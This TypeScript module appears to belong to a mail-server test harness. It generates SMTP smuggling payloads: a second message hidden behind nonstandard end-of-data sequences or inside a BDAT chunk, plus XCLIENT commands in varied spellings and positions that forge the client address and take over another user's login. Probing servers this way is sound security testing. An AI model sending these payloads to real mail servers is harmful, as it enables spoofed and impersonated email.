/**
 * What has been tried against mail servers to bring in a second message, or a command that is not a
 * client's to say. Each attempt is what a client says behind an accepted RCPT; if it works, a message
 * of the Message-ID `<token@client.test>` arrives that no honest reader of the dialogue would see, or
 * one whose client is another than the one that sent it.
 */
export interface Attempt {
  readonly title: string
  /** Said by itself first, with the answer that lets the rest follow. */
  readonly first?: readonly [line: string, answer: RegExp]
  /** The rest, in one piece. It ends with QUIT however it is read. */
  readonly text: (token: string) => string
}

/** Whose place a client takes that gets XCLIENT through. */
export const forgedAddress = '192.0.2.66'

const lines = (...words: readonly string[]) => words.map(line => `${line}\r\n`).join('')

/** A whole message, in commands that need no answer in between. */
const message = (token: string, to: string) =>
  lines(`MAIL FROM:<${token}@client.test>`, `RCPT TO:<${to}>`, 'DATA') +
  lines(`Message-ID: <${token}@client.test>`, `Subject: ${token}`, '', 'Foreign words', '.')

const carrier = lines('Subject: carrier', '', 'The first message')

/** Ends of data that some server takes for one, though RFC 5321 knows only CRLF dot CRLF. */
export const ends = {
  'LF dot LF': '\n.\n',
  'LF dot CRLF': '\n.\r\n',
  'CRLF dot LF': '\r\n.\n',
  'CR dot CR': '\r.\r',
  'CRLF dot CR': '\r\n.\r',
  'LF dot CR': '\n.\r',
  'CRLF NUL dot CRLF': '\r\n\0.\r\n',
  'CRLF dot NUL CRLF': '\r\n.\0\r\n',
} as const
export type End = keyof typeof ends

/** A message in the body of another, behind an end of data of that kind. */
export function behindEnd(end: End, to: string): Attempt {
  return {
    title: `a second message behind ${end}`,
    first: ['DATA', /^354 /],
    text: token =>
      `${carrier.slice(0, -2)}${ends[end]}${message(token, to)}${lines('rest', '.', 'QUIT')}`,
  }
}

/** A message whose commands are a chunk's content. */
export function inChunk(title: string, octets: number, to: string): Attempt {
  return {
    title,
    text: token => {
      const chunk = `RSET\r\n${message(token, to)}`
      const padding = `NOOP ${'x'.repeat(octets - chunk.length - 7)}\r\n`
      return `BDAT ${octets} LAST\r\n${chunk}${padding}QUIT\r\n`
    },
  }
}

/** Ways to write XCLIENT that Postfix takes for it; `\r` and the like are single octets. */
export const spellings = [
  'XCLIENT ',
  'xclient ',
  'xClIeNt ',
  ' XCLIENT ',
  '\tXCLIENT ',
  '\vXCLIENT ',
  '\rXCLIENT ',
  'XCLIENT\t',
] as const

/** Another client's place, then a message. */
function forged(start: string, to: string, more = ''): (token: string) => string {
  return token =>
    `${start}NAME=[UNAVAILABLE] ADDR=${forgedAddress}${more}\r\n` +
    `EHLO client.test\r\n${message(token, to)}QUIT\r\n`
}

export function spelled(spelling: string, to: string): Attempt {
  return {
    title: `XCLIENT written ${JSON.stringify(spelling)}`,
    text: forged(`RSET\r\n${spelling}`, to),
  }
}

/** `length`: octets of a command line after which a server takes what follows for the next. */
export function asTail(length: number, to: string): Attempt {
  return {
    title: `XCLIENT behind ${length} octets of a line that a server may cut`,
    text: forged(`RSET\r\n${'NOOP '.padEnd(length, 'x')}XCLIENT `, to),
  }
}

/** DATA is refused, so that what was meant as content are commands. */
export function behindRefusedData(spelling: string, to: string): Attempt {
  return {
    title: `XCLIENT written ${JSON.stringify(spelling)} behind a pipelined DATA that is refused`,
    text: forged(`RSET\r\nDATA\r\n${spelling}`, to),
  }
}

/** To be said in a session that is logged in: takes another user's place, too. */
export function asUser(spelling: string, user: string, to: string): Attempt {
  return {
    title: `XCLIENT written ${JSON.stringify(spelling)} after the login`,
    text: forged(`RSET\r\n${spelling}`, to, ` LOGIN=${user}`),
  }
}

/** Said inside of the TLS that STARTTLS began. */
export function insideTls(to: string): Attempt {
  return { title: 'XCLIENT inside of STARTTLS', text: forged('XCLIENT ', to) }
}
